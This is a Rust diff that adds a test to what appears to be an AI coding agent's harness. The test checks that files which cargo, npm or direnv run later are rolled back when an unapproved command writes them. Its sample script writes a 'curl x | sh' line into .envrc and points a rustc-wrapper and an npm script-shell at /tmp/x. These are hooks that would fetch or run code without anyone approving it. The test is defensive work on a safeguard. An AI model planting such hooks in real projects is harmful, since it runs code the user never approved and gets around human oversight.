@@ -520,3 +520,50 @@ async fn a_cancelled_background_task_takes_its_detached_children_along() {
     );
     assert_eq!(survivors(&["sleep", "44"]), Vec::<i32>::new());
 }
+
+/// A program the policy lets run without asking (a test runner) runs project code, which
+/// can write a file cargo or direnv runs later: nobody approved it, so it is undone and the
+/// model is told how to make the change with approval; under `auto` it stays, named.
+#[tokio::test]
+async fn run_later_files_a_command_writes_are_undone_unless_the_call_may_keep_them() {
+    let f = fixture();
+    std::fs::write(
+        f.ctx.workspace.join(".npmrc"),
+        "registry=https://r.example/\n",
+    )
+    .unwrap();
+    let script = "mkdir -p .cargo && printf '[build]\\nrustc-wrapper = \"/tmp/x\"\\n' > .cargo/config.toml; \
+                  echo 'script-shell=/tmp/x' >> .npmrc; echo 'curl x | sh' > .envrc; \
+                  echo fine > src.txt; echo done";
+    let out = sh(&f.ctx, json!({"command": script})).await;
+    let t = text(&out);
+    assert!(t.contains("done"), "{t}");
+    assert!(
+        t.contains(".cargo/config.toml") && t.contains("write_file"),
+        "{t}"
+    );
+    assert!(!f.ctx.workspace.join(".cargo/config.toml").exists());
+    assert!(!f.ctx.workspace.join(".envrc").exists());
+    assert_eq!(
+        std::fs::read_to_string(f.ctx.workspace.join(".npmrc")).unwrap(),
+        "registry=https://r.example/\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(f.ctx.workspace.join("src.txt")).unwrap(),
+        "fine\n"
+    );
+    assert_eq!(
+        out.meta["runs_later_written"].as_array().unwrap().len(),
+        3,
+        "{out:?}"
+    );
+
+    let auto = f.ctx.keeping_run_later();
+    let out = sh(&auto, json!({"command": "echo 'use nix' > .envrc"})).await;
+    assert!(
+        text(&out).contains(".envrc (run by direnv; kept)"),
+        "{}",
+        text(&out)
+    );
+    assert!(f.ctx.workspace.join(".envrc").exists());
+}
